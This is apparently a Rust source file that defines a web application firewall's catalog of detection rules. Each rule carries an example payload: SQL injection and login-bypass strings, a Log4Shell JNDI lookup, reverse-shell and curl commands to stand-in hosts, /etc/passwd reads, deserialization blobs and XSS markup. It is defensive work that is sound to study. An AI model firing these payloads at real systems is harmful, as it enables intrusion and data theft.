//! The one list of protections. Selectors, suggestions, the printed catalog, reference pages, the JSON Schema,
//! metric labels and the test grid derive from it. It must not know rules, routes or configuration.
//!
//! One row: variant, canonical name, family, bucket (empty when the leaf stands directly under its family), default,
//! CWE numbers, status of a refusal, what it looks for, when an operator would disable (or, for one that is off,
//! enable) it. Names are never renamed or reused: see [`super::ALIASES`].
//!
//! Examples in the summary of what is looked for are code spans, and tests send each with the other protections
//! disabled. Their shape says where they are sent: `?name=value` in a query, `/path` as a path, `Name: value` as a
//! header field,
//! `METHOD /path` as a request line, `{…}` as a JSON body, `filename="…"` and `name="…"` as a part of an upload; of a
//! protection that looks at responses, every code span is the content of one. Reserved characters are escaped on the
//! way.

use super::row::Default::{Off, On};

macro_rules! leaves {
    ($($variant:ident, $name:literal, $family:literal, $bucket:literal, $default:ident, [$($cwe:literal),+], $status:literal, $summary:literal, $when:literal;)+) => {
        /// A protection: the leaf level of the catalog.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
        #[repr(u8)]
        #[allow(missing_docs, reason = "each row of the table documents its variant")]
        pub enum Leaf { $($variant),+ }

        /// Every row, in the order of [`Leaf`].
        pub const TABLE: &[super::row::Row] = &[$(super::row::Row {
            leaf: Leaf::$variant, name: $name, family: $family, bucket: $bucket, default: $default,
            cwe: &[$($cwe),+], status: $status, summary: $summary, when: $when,
        }),+];
    };
}

leaves! {
    SqlInjectionGeneric, "sql-injection-generic", "sql", "sql-injection", On, [89], 403,
        "A value that, read as SQL tokens, changes the query around it, for example `?id=1' ORDER BY 7 --` or `?id=x') AND (SELECT 1)=(1`.",
        "Disable it on routes whose input is SQL by design, such as the query box of a reporting tool, a database console or a course on SQL.";
    SqlInjectionGenericAggressive, "sql-injection-generic-aggressive", "sql", "sql-injection", Off, [89], 403,
        "Loose signs of SQL probing that ordinary text can contain too: a quote before AND, OR, LIKE or a comparison, for example `?q=x' and y like`.",
        "Enable it on routes with narrow input, such as login, order numbers or patient identifiers, and run it in detect_only first; comment boxes give false positives.";
    SqlInjectionOperators, "sql-injection-operators", "sql", "sql-injection", On, [89], 403,
        "SQL conditions and comparisons that go on a query, for example `?id=1 or 1=1`, `?user=x' or 'a'='a` or `?user=x'='x`.",
        "Disable it for APIs that accept a filter or query language with SQL-like clauses, such as report builders and log search.";
    SqlInjectionFunctionCalls, "sql-injection-function-calls", "sql", "sql-injection", On, [89], 403,
        "Calls of SQL built-in functions that injected queries rely on, for example `?id=1 and ascii(substring(@@version,1,1))>51` or `?id=load_file('/etc/passwd')`.",
        "Disable it where users type formulas or code, such as spreadsheet imports, calculated report columns or developer forums.";
    SqlInjectionSystemSchemaNames, "sql-injection-system-schema-names", "sql", "sql-injection", On, [89], 403,
        "Names of database catalogs that hold table and user lists, where a query would name them, such as `?t=information_schema.tables`, `?t=pg_catalog.pg_user`, `?id=1 union select name from sysobjects` or `?id=1 union select sql from sqlite_master`.",
        "Disable it for database administration tools, schema browsers and support portals where such names are part of the ticket text.";
    SqlInjectionSqlComments, "sql-injection-sql-comments", "sql", "sql-injection", On, [89], 403,
        "SQL comment syntax that cuts off or hides part of a query, for example `?id=/*!50000union*/`, `?user=admin'--` or `?user=admin' #`.",
        "Disable it on routes that receive source code, SQL files or stylesheets with `/* */` comments as plain form fields.";
    SqlInjectionCommentsInJson, "sql-injection-comments-in-json", "sql", "sql-injection", Off, [89], 403,
        "Comment marks behind quotes, commas and parentheses, and block comments in JSON, which hide SQL, for example `?q='item', (5) /*` or `{\"id\":\"1/*x*/or/*x*/1\"}`; JSON sent as a string looks similar.",
        "Enable it on form and query-string routes that never carry JSON or CSV inside a parameter, for example a classic shop checkout.";
    SqlInjectionBackticks, "sql-injection-backticks", "sql", "sql-injection", On, [89], 403,
        "A backtick that leaves an identifier of MySQL and goes on with a condition or a clause, for example ``?col=x` or `a`=`a``.",
        "Disable it where users write Markdown or shell snippets, such as chat, wikis, bug trackers and code review.";
    SqlInjectionHexEncoded, "sql-injection-hex-encoded", "sql", "sql-injection", On, [89], 403,
        "SQL literals written in hexadecimal next to other SQL syntax, for example `?id=select 0x616263` or `?id=1 or name=x'61646d696e'`.",
        "Disable it for APIs that take memory addresses, blockchain hashes or binary data as `0x` strings within query-like text.";
    SqlInjectionStringConcatenation, "sql-injection-string-concatenation", "sql", "sql-injection", On, [89], 403,
        "Text assembled from pieces inside SQL to slip past word lists, for example `?user='ad'||'min'` or `?user=a'||'b`.",
        "Disable it where expressions with `||` or `concat(` are normal input, such as report formulas and data mapping editors.";
    SqlInjectionSpecialCharacterDensity, "sql-injection-special-character-density", "sql", "sql-injection", Off, [89], 403,
        "More quotes, semicolons, parentheses and similar characters in one value or cookie than plain text has, for example `?q='!@#$^*()-=;|`.",
        "Enable it where values are short and simple, such as search by name or booking codes; not where cookies or fields hold JSON or passwords.";
    SqlInjectionTimeBased, "sql-injection-time-based", "sql", "sql-injection", On, [89], 403,
        "SQL functions that make the database wait, so that a reply's delay leaks data: `?id=1 and sleep(5)`, `?id=benchmark(1000000,md5(1))`, `?id=1;select pg_sleep(5)` or `?id=1; waitfor delay '0:0:5'`.",
        "Disable it on routes that accept scripts or job definitions in which `sleep(5)` is an ordinary call, such as automation consoles.";
    SqlInjectionAlwaysTrue, "sql-injection-always-true", "sql", "sql-injection", Off, [89], 403,
        "Conditions that are always true or always false, for example `?id=1=1`, `?name='a'='a'` or `?id=11!=1`.",
        "Enable it for login, lookup and payment routes with identifiers as input; leave it off where users send formulas, filters or equations.";
    SqlInjectionUnionSelect, "sql-injection-union-select", "sql", "sql-injection", On, [89], 403,
        "UNION clauses appended to a query to read other tables, for example `?id=' UNION SELECT user, password FROM users`.",
        "Disable it only on routes that accept whole SQL statements on purpose, such as a data warehouse console.";
    SqlInjectionIfStatements, "sql-injection-if-statements", "sql", "sql-injection", On, [89], 403,
        "Conditional SQL used to ask the database one yes-or-no question at a time, for example `?id=if(2=2,1,0)` or `?id=1 and case when 1=1 then 1 end`.",
        "Disable it where users enter conditional formulas, such as spreadsheet cells, pricing rules or workflow editors.";
    SqlInjectionMultipleStatements, "sql-injection-multiple-statements", "sql", "sql-injection", Off, [89], 403,
        "A second statement chained to the first, for example `?id=1; update users set role=1`.",
        "Enable it on routes with structured input, such as account or order APIs; free text with semicolons and pasted code gives false positives.";
    SqlInjectionQueryClosers, "sql-injection-query-closers", "sql", "sql-injection", On, [89], 403,
        "A value that ends with a quote and a semicolon, or a quote, a parenthesis and a comment mark, so that the rest of the query is dropped, for example `?user=admin';` or `?user=x')--`.",
        "Disable it where values are quoted lists or code lines, for example CSV pasted into a form or a configuration editor.";
    SqlInjectionOverflowProbes, "sql-injection-overflow-probes", "sql", "sql-injection", On, [89], 403,
        "Numbers known to trip integer or float parsing, for example `?n=4294967296` or `?n=2.2250738585072011e-308`, sent as the whole value.",
        "Disable it for scientific or telemetry APIs that transmit boundary values of 32-bit and floating-point types.";
    SqlInjectionLoginBypass, "sql-injection-login-bypass", "sql", "sql-injection", On, [89, 287], 403,
        "Short inputs that turn a password check into a true condition, for example `?user=admin'--` or `?user=' or 1=1#`.",
        "Disable it on routes other than login where such quoting is normal, such as a code snippet store; keep it on for every sign-in form.";
    SqlInjectionQuotesInText, "sql-injection-quotes-in-text", "sql", "sql-injection", Off, [89, 287], 403,
        "An odd number of quotes before a word such as OR or AND, for example `?sku=x'y or 1`; names and sentences with apostrophes match too.",
        "Enable it for fields that never hold an apostrophe, such as card numbers, SKUs or insurance numbers; not for names or messages.";
    SqlInjectionMssqlSpecific, "sql-injection-mssql-specific", "sql", "sql-injection", On, [89], 403,
        "Microsoft SQL Server constructs for running programs or changing the server, such as `?id=1; exec xp_cmdshell 'dir'` or `?id=1;declare @q varchar(99)`.",
        "Disable it on routes of SQL Server administration tools or of a support desk whose tickets quote T-SQL.";
    SqlInjectionStoredProcedures, "sql-injection-stored-procedures", "sql", "sql-injection", On, [89], 403,
        "Calls of stored procedures and casts that leak data, for example `?id=1 procedure analyse(1,2)`, `?id=1;exec sp_configure 'a',1--` or `?id=password::int`.",
        "Disable it for migration tools, database consoles and training sites where users submit SQL scripts.";
    SqlInjectionMongodbOperators, "sql-injection-mongodb-operators", "sql", "sql-injection", On, [943], 403,
        "MongoDB query operators where a plain value belongs, for example the parameter `?user[$ne]=1` or the body `{\"user\":{\"$gt\":\"\"}}`, and code in `{\"$where\":\"sleep(5000)\"}`.",
        "Disable it for APIs that accept MongoDB filters from their clients, for example `{\"price\": {\"$lt\": 10}}` in a search endpoint.";
    SqlInjectionJsonOperators, "sql-injection-json-operators", "sql", "sql-injection", On, [89], 403,
        "JSON operators of SQL databases used to hide a condition, for example `?q=OR '{\"b\":2}'::jsonb <@ '{\"a\":1}'`.",
        "Disable it where clients send SQL JSON path expressions on purpose, such as analytics query APIs.";
    SqlInjectionScientificNotation, "sql-injection-scientific-notation", "sql", "sql-injection", On, [89], 403,
        "Unfinished exponents that MySQL ignores and word filters stumble over, for example `?id=1.e(ascii 1.e(substring(`.",
        "Disable it for APIs that take expressions in which a number such as `1.e` may stand directly before a parenthesis.";
    SqlDataLeakageMssql, "sql-data-leakage-mssql", "sql", "sql-data-leakage", On, [209], 403,
        "SQL Server errors in a response body, for example `Unclosed quotation mark after the character string ''.` or `[Microsoft][ODBC SQL Server Driver][SQL Server]Incorrect syntax near 'x'.`.",
        "Disable it for sites that publish SQL Server error texts, such as a knowledge base, a vendor manual or a developer forum.";
    SqlDataLeakageMsaccess, "sql-data-leakage-msaccess", "sql", "sql-data-leakage", On, [209], 403,
        "Microsoft Access and JET errors in a response body, for example `Microsoft JET Database Engine error '80040e14'` or `Syntax error in string in query expression 'id = 1''.`.",
        "Disable it for help pages and archives that quote Access errors, or if no upstream of the route uses an Access database.";
    SqlDataLeakageOracle, "sql-data-leakage-oracle", "sql", "sql-data-leakage", On, [209], 403,
        "Oracle Database errors in a response body, for example `ORA-01756: quoted string not properly terminated`.",
        "Disable it for documentation or support pages that list ORA codes, such as an internal database runbook.";
    SqlDataLeakageDb2, "sql-data-leakage-db2", "sql", "sql-data-leakage", On, [209], 403,
        "IBM Db2 errors in a response body, for example `[IBM][CLI Driver][DB2/LINUXX8664] SQL0104N  An unexpected token was found. SQLSTATE=42601`.",
        "Disable it for pages that explain Db2 codes, such as a mainframe team's wiki, or if no upstream uses Db2.";
    SqlDataLeakageInformix, "sql-data-leakage-informix", "sql", "sql-data-leakage", On, [209], 403,
        "Informix errors in a response body, for example `java.sql.SQLException: An illegal character has been found in the statement.`.",
        "Disable it for pages that quote Informix messages, such as migration guides, or if no upstream uses Informix.";
    SqlDataLeakageSybase, "sql-data-leakage-sybase", "sql", "sql-data-leakage", On, [209], 403,
        "Sybase errors in a response body, for example `Warning: Sybase: Server message: Incorrect syntax near 'x'. (severity 15)`.",
        "Disable it for support archives that show Sybase messages, or if no upstream of the route uses Sybase.";
    SqlDataLeakageMysql, "sql-data-leakage-mysql", "sql", "sql-data-leakage", On, [209], 403,
        "MySQL and MariaDB errors in a response body, for example `You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''' at line 1`.",
        "Disable it for developer forums, tutorials and hosting help pages that quote MySQL errors as content.";
    SqlDataLeakagePostgres, "sql-data-leakage-postgres", "sql", "sql-data-leakage", On, [209], 403,
        "PostgreSQL errors in a response body, for example `ERROR:  unterminated quoted string at or near \"'\" at character 8`.",
        "Disable it for documentation and question-and-answer pages that quote PostgreSQL errors as content.";
    SqlDataLeakageSqlite, "sql-data-leakage-sqlite", "sql", "sql-data-leakage", On, [209], 403,
        "SQLite errors in a response body, for example `sqlite3.OperationalError: near \"'\": syntax error`.",
        "Disable it for developer documentation that quotes SQLite errors, or for test reports served as web pages.";
    SqlDataLeakageFirebird, "sql-data-leakage-firebird", "sql", "sql-data-leakage", On, [209], 403,
        "Firebird errors in a response body, for example `Dynamic SQL Error` with its SQL error code.",
        "Disable it for pages that quote Firebird messages, such as a product's support archive, or if no upstream uses Firebird.";
    SqlDataLeakageFrontbase, "sql-data-leakage-frontbase", "sql", "sql-data-leakage", On, [209], 403,
        "FrontBase errors in a response body, for example `Exception condition 358. Transaction rollback.`.",
        "Disable it if no upstream uses FrontBase and pages of the route, such as published logs, contain texts about rolled back transactions.";
    SqlDataLeakageHsqldb, "sql-data-leakage-hsqldb", "sql", "sql-data-leakage", On, [209], 403,
        "HSQLDB errors in a response body, for example `org.hsqldb.jdbc.JDBCDataSource: Unexpected token: ' in statement [select ']`.",
        "Disable it for pages that show Java build or test logs with HSQLDB traces, such as a continuous integration server.";
    SqlDataLeakageIngres, "sql-data-leakage-ingres", "sql", "sql-data-leakage", On, [209], 403,
        "Ingres errors in a response body, for example `Ingres SQLSTATE 42500: E_US0834 line 1, Table 'x' does not exist`.",
        "Disable it for pages that quote Ingres messages, such as an old system's manual, or if no upstream uses Ingres.";
    SqlDataLeakageInterbase, "sql-data-leakage-interbase", "sql", "sql-data-leakage", On, [209], 403,
        "InterBase errors in a response body, for example `Warning: ibase_query(): Dynamic SQL Error SQL error code = -104 in /srv/x.php on line 12`.",
        "Disable it for pages that quote InterBase messages, such as Delphi forums, or if no upstream uses InterBase.";
    SqlDataLeakageMaxdb, "sql-data-leakage-maxdb", "sql", "sql-data-leakage", On, [209], 403,
        "SAP MaxDB errors in a response body, for example `Error: -5016 POS(8) Missing delimiter: )`.",
        "Disable it for pages that quote MaxDB messages, such as SAP operating notes, or if no upstream uses MaxDB.";
    SqlDataLeakageEmc, "sql-data-leakage-emc", "sql", "sql-data-leakage", On, [209], 403,
        "Documentum query errors in a response body, for example `[DM_QUERY_E_SYNTAX]error:  \"A Parser Error (syntax error) has occurred in the vicinity of:  select\"`.",
        "Disable it for help pages about Documentum queries, or if no upstream of the route is a Documentum repository.";
    PhpInjectionOpenTags, "php-injection-open-tags", "php", "php-injection", On, [94], 403,
        "PHP opening tags in a value, for example `?c=<?php system('id');` or `?c=<?= $x ?>`, which run if the value lands in a script file.",
        "Disable it where users post PHP code, such as a theme editor of a content management system, a code host or a programming forum.";
    PhpInjectionScriptUpload, "php-injection-script-upload", "php", "php-injection", On, [434], 403,
        "An uploaded file whose name makes PHP run or load it, for example `filename=\"shell.php\"`, `filename=\"photo.php.jpg\"`, `filename=\"x.phtml\"` or a session file such as `filename=\"sess_k3q0v5m1c7x2b9n4j8h6g5f4d3\"`.",
        "Disable it for routes where developers upload PHP files on purpose, such as plugin installation or a deployment endpoint.";
    PhpInjectionConfigDirectives, "php-injection-config-directives", "php", "php-injection", On, [94], 403,
        "Assignments to PHP settings in a value, for example `?x=allow_url_include=1` or `?x=auto_prepend_file=php://input`.",
        "Disable it for hosting panels and tools that edit `php.ini` or `.user.ini` through a form.";
    PhpInjectionSuperglobalNames, "php-injection-superglobal-names", "php", "php-injection", On, [94], 403,
        "PHP variables that expose request or server data, for example `?x=$_GET`, `?x=$_SERVER`, `?x=$GLOBALS` or a computed name such as `?x=${'_GET'}`.",
        "Disable it where users post PHP snippets, or where templates with `${name}` placeholders are sent as form fields.";
    PhpInjectionStreamWrappers, "php-injection-stream-wrappers", "php", "php-injection", On, [94, 98], 403,
        "PHP stream addresses that turn a file name into code or data, for example `?page=php://filter/convert.base64-encode/resource=index.php`, `?page=phar://album.zip/photo.txt` or `?page=zip://shell.jpg#payload.php`.",
        "Disable it for PHP administration tools and documentation search where such addresses are ordinary text.";
    PhpInjectionDangerousFunctions, "php-injection-dangerous-functions", "php", "php-injection", On, [94, 95], 403,
        "Names or calls of PHP functions that run commands or code, for example `?x=shell_exec('id')`, `?x=passthru('id')`, `?x=proc_open('id',[],$p)` or `?x=assert($x)`.",
        "Disable it for code editors, scanners' result pages and forums where PHP source is posted.";
    PhpInjectionSuspiciousFunctionsAggressive, "php-injection-suspicious-functions-aggressive", "php", "php-injection", Off, [94], 403,
        "Calls of PHP functions whose names are also common in text, for example `?x=array_map('x')`, `?x=strlen(a)`, `?x=copy(a)` or `?x=file(a)`.",
        "Enable it in front of PHP applications whose input is short and structured, such as booking forms; not for sites that discuss code.";
    PhpInjectionSerializedObjects, "php-injection-serialized-objects", "php", "php-injection", On, [502], 403,
        "A serialized PHP object in a value or cookie, for example `?data=O:8:\"stdClass\":1:{`, which can call methods when it is unserialized.",
        "Disable it only for old PHP applications that keep serialized objects in cookies or hidden fields, until they move to JSON.";
    PhpInjectionIndirectFunctionCalls, "php-injection-indirect-function-calls", "php", "php-injection", On, [94], 403,
        "PHP calls through a variable or an expression, for example `?x=$f('id')` or `?x=(sy.(st).em)('uname')`.",
        "Disable it where mathematical or template expressions such as `(a)(b)` are normal input, and for PHP code editors.";
    PhpDataLeakageVersionInfo, "php-data-leakage-version-info", "php", "php-data-leakage", On, [200], 403,
        "PHP warnings, fatal errors and version details in a response body, for example `PHP Fatal error:  Uncaught Error: x in /srv/www/a.php:3` or `<title>phpinfo()</title>`.",
        "Disable it for PHP tutorials and bug trackers that show such messages, or on a staging route where developers need them.";
    PhpDataLeakageSourceCode, "php-data-leakage-source-code", "php", "php-data-leakage", On, [540], 403,
        "PHP source in a response body, for example `<?php include 'menu.php'; ?>`, a sign that the server sends scripts instead of running them.",
        "Disable it for code hosts, documentation and download routes that serve PHP files as text.";
    JavaInjectionClassAndMethodNames, "java-injection-class-and-method-names", "java", "java-injection", On, [94], 403,
        "Java class and method names used to reach the runtime, for example `?x=java.lang.ProcessBuilder` or `?class.module.classLoader.resources.context=x`.",
        "Disable it where stack traces or Java code are submitted, such as crash report endpoints, build servers and bug trackers.";
    JavaInjectionStruts2RuntimeExec, "java-injection-struts2-runtime-exec", "java", "java-injection", On, [78, 94], 403,
        "Expressions that start a process through the Java runtime, for example `?x=Runtime.getRuntime().exec('id')`, as in a Struts OGNL value.",
        "Disable it only for routes that receive Java source or security reports as text, such as a code review tool.";
    JavaInjectionSerializedObjects, "java-injection-serialized-objects", "java", "java-injection", On, [502], 403,
        "A serialized Java object in a value, cookie or header, raw, in hexadecimal or in Base64, for example `?o=aced0005737200116a617661` or `?o=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA`.",
        "Disable it for Java clients that exchange serialized objects over HTTP by design, such as old remoting or monitoring endpoints.";
    JavaInjectionScriptUpload, "java-injection-script-upload", "java", "java-injection", On, [434], 403,
        "An uploaded file whose name makes a Java server run or deploy it, for example `filename=\"cmd.jsp\"`, `filename=\"x.jspx\"` or `filename=\"app.war\"`.",
        "Disable it for deployment routes of an application server and for artifact stores that accept `.war` and `.jsp` files.";
    JavaInjectionLog4shell, "java-injection-log4shell", "java", "java-injection", On, [917], 403,
        "Log4j lookups that load code from a remote server, for example `User-Agent: ${jndi:ldap://203.0.113.5/a}`, also nested as `?q=${${lower:j}ndi:ldap://203.0.113.5/a}`.",
        "Disable it only for test systems that measure patched hosts with such strings, or bug trackers whose reports quote them.";
    JavaInjectionBase64EncodedKeywords, "java-injection-base64-encoded-keywords", "java", "java-injection", Off, [94], 403,
        "Java class and method names hidden in Base64, for example `?x=cnVudGltZQ`, which decodes to the word runtime.",
        "Enable it in front of Java applications whose parameters carry no Base64; tokens, images and signed cookies can match by chance.";
    JavaDataLeakageStackTrace, "java-data-leakage-stack-trace", "java", "java-data-leakage", On, [209], 403,
        "A Java stack trace in a response body, for example `java.lang.NullPointerException` with its message or frames.",
        "Disable it for build servers, log viewers and bug trackers that display Java traces to signed-in staff.";
    RubyInjectionSystemCalls, "ruby-injection-system-calls", "ruby", "ruby-injection", On, [78, 94], 403,
        "Ruby calls that start processes or evaluate code, for example `?x=Process.spawn(\"id\")`, `?x=Kernel.system('id')` or `?x=IO.popen('id')`.",
        "Disable it where users submit Ruby code, such as configuration management, code hosts or programming courses.";
    RubyDataLeakageVersionInfo, "ruby-data-leakage-version-info", "ruby", "ruby-data-leakage", On, [200], 403,
        "Ruby and Rails errors in a response body, for example `ActiveRecord::RecordNotFound (Couldn't find Post with 'id'=999)` or `TypeError: no implicit conversion of String into Integer`.",
        "Disable it for error tracking tools and Ruby documentation that show such errors as content.";
    RubyDataLeakageSourceCode, "ruby-data-leakage-source-code", "ruby", "ruby-data-leakage", Off, [540], 403,
        "Ruby template source in a response body, for example `<%= link_to user.name, user_path(user) %>`, a sign that a template is sent unrendered.",
        "Enable it in front of Rails applications; leave it off where pages carry `<% %>` templates for the browser, as some site editors do.";
    PerlInjectionSystemCalls, "perl-injection-system-calls", "perl", "", On, [78, 94], 403,
        "Perl code hidden in string interpolation, for example `?x=@{[system 'whoami']}`, which runs when the string is evaluated.",
        "Disable it where users submit Perl code or regular expressions with such syntax, such as a code host or a log processing tool.";
    PythonInjectionCode, "python-injection-code", "python", "python-injection", On, [94, 95], 403,
        "Python code that imports what starts processes, or walks to the interpreter, for example `?x=__import__('os').system('id')` or `?x=().__class__.__bases__[0].__subclasses__()`.",
        "Disable it where users submit Python code, such as notebooks, build servers and programming courses.";
    PythonInjectionSerializedObjects, "python-injection-serialized-objects", "python", "python-injection", On, [502], 403,
        "A pickled Python object that runs code when it is read, for example `?o=gASVIgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU` or `{\"py/reduce\":[{\"py/type\":\"os.system\"}]}`.",
        "Disable it for Python services that exchange pickled objects by design, such as task queues and model servers.";
    LuaInjection, "lua-injection", "lua-injection", "", On, [78, 94], 403,
        "Lua code that starts processes or loads libraries, for example `?x=os.execute('id')` or `?x=io.popen('id')`.",
        "Disable it for gateways, games and databases whose users submit Lua scripts.";
    DotnetInjectionSerializedObjects, "dotnet-injection-serialized-objects", "dotnet", "dotnet-injection", On, [502], 403,
        "Serialized .NET objects and types that start processes or load code, for example `?o=AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0` or `{\"__type\":\"System.Diagnostics.Process, System\"}`.",
        "Disable it for .NET clients that exchange such objects by design, such as old remoting endpoints and designers of XAML.";
    DotnetInjectionServerCode, "dotnet-injection-server-code", "dotnet", "dotnet-injection", On, [94, 95], 403,
        "Code of ASP and ASP.NET pages that loads assemblies or runs what a request holds, for example `?x=execute(request(\"x\"))` or `?x=CreateObject(\"WScript.Shell\")`.",
        "Disable it where users post such code, such as help desks for Windows scripting and editors of server pages.";
    IisDataLeakageInstallPaths, "iis-data-leakage-install-paths", "iis", "iis-data-leakage", On, [200, 540], 403,
        "Installation paths of IIS in a response body, for example `Could not find file 'D:\\Inetpub\\wwwroot\\shop\\prices.xml'.`, which show where files are on the server.",
        "Disable it for administration guides, help desks and deployment logs that mention such paths as content.";
    IisDataLeakageAvailabilityErrors, "iis-data-leakage-availability-errors", "iis", "iis-data-leakage", On, [209], 403,
        "IIS and database connection failures in a response body, for example `<title>Server Application Unavailable</title>`.",
        "Disable it on internal monitoring pages that show connection errors to operators, or where manuals quote these messages.";
    IisDataLeakageVersionHeaders, "iis-data-leakage-version-headers", "iis", "iis-data-leakage", On, [200], 403,
        "IIS and ASP.NET version details in error pages, for example `<title>IIS 10.0 Detailed Error - 404.0 - Not Found</title>`.",
        "Disable it on a staging route where developers need the detailed ASP.NET error page.";
    JavascriptInjectionEval, "javascript-injection-eval", "javascript", "", On, [94, 95], 403,
        "JavaScript that a Node.js server would evaluate, for example `?x=require('child_process').exec('id')` or `?x=global.process.mainModule`.",
        "Disable it where users submit JavaScript, such as serverless editors, low-code platforms, code playgrounds and bug trackers.";
    JavascriptInfiniteLoops, "javascript-infinite-loops", "javascript", "", On, [400, 1333], 403,
        "Endless loops meant to hang a server that evaluates the value, for example `?x=while(true);` or `?x=for(;;){}`.",
        "Disable it where source code is posted, such as programming courses, firmware editors or code review tools.";
    JavascriptPrototypePollution, "javascript-prototype-pollution", "javascript", "", On, [1321], 403,
        "Keys that change the prototype of all JavaScript objects, for example `?__proto__[admin]=1` or `?constructor.prototype.x=1`.",
        "Disable it only for tools that store JavaScript source or object paths as text; an ordinary API has no use for these keys.";
    CrossSiteScriptingScriptTags, "cross-site-scripting-script-tags", "cross-site-scripting", "cross-site-scripting-html-context", On, [79], 403,
        "HTML script elements and values that a browser would parse as one, for example `?q=<script>alert(1)</script>` or `?q=<script src=//evil.example>`.",
        "Disable it for editors of trusted staff that store HTML with scripts, such as tag managers or page builders.";
    CrossSiteScriptingEventHandlers, "cross-site-scripting-event-handlers", "cross-site-scripting", "cross-site-scripting-html-context", On, [79], 403,
        "HTML event attributes that run code, for example `?q=<img src=x onerror=alert(1)>` or `?q=\" onfocus=alert(1) x=\"`.",
        "Disable it for page builders and mail template editors where trusted users save HTML with event attributes.";
    CrossSiteScriptingHtmlAttributes, "cross-site-scripting-html-attributes", "cross-site-scripting", "cross-site-scripting-html-context", On, [79], 403,
        "HTML attributes and entities that load or style content, for example `?q=<button formaction=//evil.example>`, `?q=<iframe srcdoc='x'>` or `?q=<!ENTITY x SYSTEM 'file:///etc/passwd'>`.",
        "Disable it where users send formatted HTML, such as rich text editors, web mail or newsletter tools that clean it on the server.";
    CrossSiteScriptingHtmlInjectionMarkers, "cross-site-scripting-html-injection-markers", "cross-site-scripting", "cross-site-scripting-html-context", On, [79], 403,
        "Markup that adds elements to a page, for example `?q=<iframe src=//evil.example>`, `?q=<object data=x>` or `?q=<base href=//evil.example>`.",
        "Disable it for rich text fields, product descriptions in HTML and feed imports that the application sanitizes itself.";
    CrossSiteScriptingSuspiciousKeywords, "cross-site-scripting-suspicious-keywords", "cross-site-scripting", "cross-site-scripting-html-context", On, [79], 403,
        "Names of browser objects that stolen-session scripts use, for example `?q=document.cookie` or `?q=window.location`.",
        "Disable it for developer forums, error collectors that receive browser stack traces, and code editors.";
    CrossSiteScriptingJavascriptUrls, "cross-site-scripting-javascript-urls", "cross-site-scripting", "cross-site-scripting-javascript-context", On, [79], 403,
        "Addresses that run code when followed or loaded, for example `?next=javascript:alert(1)` or `?q=<a href=javascript:alert(1)>`.",
        "Disable it for bookmarklet collections and page builders in which trusted users save such links.";
    CrossSiteScriptingJavascriptKeywords, "cross-site-scripting-javascript-keywords", "cross-site-scripting", "cross-site-scripting-javascript-context", On, [79], 403,
        "JavaScript calls and property access as used in injected code, for example `?q=';alert(1)//`, `?q=(document)[\"cookie\"]` or `?q=Reflect.apply(alert,null,[1])`.",
        "Disable it where JavaScript is ordinary input, such as low-code platforms, programming courses and browser error reports.";
    CrossSiteScriptingAngularTemplates, "cross-site-scripting-angular-templates", "cross-site-scripting", "cross-site-scripting-javascript-context", Off, [79, 1336], 403,
        "Angular expressions that a page template would evaluate, for example `?q={{constructor.constructor('alert(1)')()}}`.",
        "Enable it in front of AngularJS applications that render user text; leave it off where users write templates with `{{name}}`.";
    CrossSiteScriptingEncodingEvasion, "cross-site-scripting-encoding-evasion", "cross-site-scripting", "cross-site-scripting-encoding-tricks", On, [79, 176], 403,
        "Markup hidden by character encodings that some browsers accept, for example UTF-7 as in `?q=+ADw-script+AD4-alert(1)` or US-ASCII with the high bit set as in `?q=%BCscript%BEalert(1)`.",
        "Disable it for applications that still receive UTF-7 or legacy 8-bit text, such as gateways for old mail systems.";
    CrossSiteScriptingJsfuckObfuscation, "cross-site-scripting-jsfuck-obfuscation", "cross-site-scripting", "cross-site-scripting-encoding-tricks", On, [79], 403,
        "JavaScript written almost only with brackets, plus and exclamation marks, for example `?q=[][(![]+[])[+[]]]`.",
        "Disable it for code golf, teaching or puzzle sites where such programs are submitted as text.";
    CrossSiteScriptingInternetExplorer, "cross-site-scripting-internet-explorer", "cross-site-scripting", "cross-site-scripting-legacy-browsers", On, [79], 403,
        "Markup that only old Internet Explorer versions run, for example `?q=x:expression(alert(1))` or `?q=<?import namespace=t implementation=x>`.",
        "Disable it where HTML with `<meta>`, `<link>` or `<object>` is stored on purpose and no visitor uses Internet Explorer.";
    CommandInjectionUnixCommands, "command-injection-unix-commands", "command-injection", "command-injection-unix", On, [77, 78], 403,
        "Unix commands after a shell separator or at the start of a value, for example `?host=;cat /etc/passwd`, `?host=| nc 203.0.113.5 4444` or `?host=x%26%26 curl http://evil.example/a`.",
        "Disable it for consoles, automation and ticket systems where operators paste shell commands.";
    CommandInjectionEnglishWords, "command-injection-english-words", "command-injection", "command-injection-unix", Off, [77, 78], 403,
        "Unix command names that are also English words as commands, for example `?host=127.0.0.1; who` or `?list=a | sort`.",
        "Enable it for APIs whose values are identifiers or numbers and are passed to programs; search boxes and messages give false positives.";
    CommandInjectionShellSubstitution, "command-injection-shell-substitution", "command-injection", "command-injection-unix", On, [78], 403,
        "Shell syntax that runs a command inside a value, for example `?x=$(id)`, `?x=<(curl evil.example)`, `?x=cat${IFS}/etc/passwd` or ``?x=`id` ``.",
        "Disable it for editors of pipelines, container files and templates where `$( )` and `${ }` are ordinary text.";
    CommandInjectionShellAliases, "command-injection-shell-aliases", "command-injection", "command-injection-unix", On, [78], 403,
        "A shell alias defined in a value so that a harmless word runs a command, for example `?x=alias a=env;a`.",
        "Disable it for tools that store shell profiles or lecture material with alias definitions.";
    CommandInjectionShellHistory, "command-injection-shell-history", "command-injection", "command-injection-unix", On, [78], 403,
        "Shell history references that run an earlier command again, for example `?x=!-1` or `?x=sudo !!:p`.",
        "Disable it where text often contains such runs of exclamation marks and digits, for example chat or game scores.";
    CommandInjectionBraceExpansion, "command-injection-brace-expansion", "command-injection", "command-injection-unix", On, [78], 403,
        "Commands written with braces instead of spaces, for example `?x={cat,/etc/passwd}` or `?x={,ip,a}`.",
        "Disable it where comma lists in braces are normal input, such as glob patterns, LaTeX sets or unusual query syntaxes.";
    CommandInjectionShellWildcards, "command-injection-shell-wildcards", "command-injection", "command-injection-unix", Off, [78], 403,
        "Paths made of shell wildcards in place of a command's name or a file's, for example `?x=/???/c?t` or `?x=/et*/*wd`.",
        "Enable it where parameters reach shell scripts and never contain globs; leave it off for file search and backup pattern fields.";
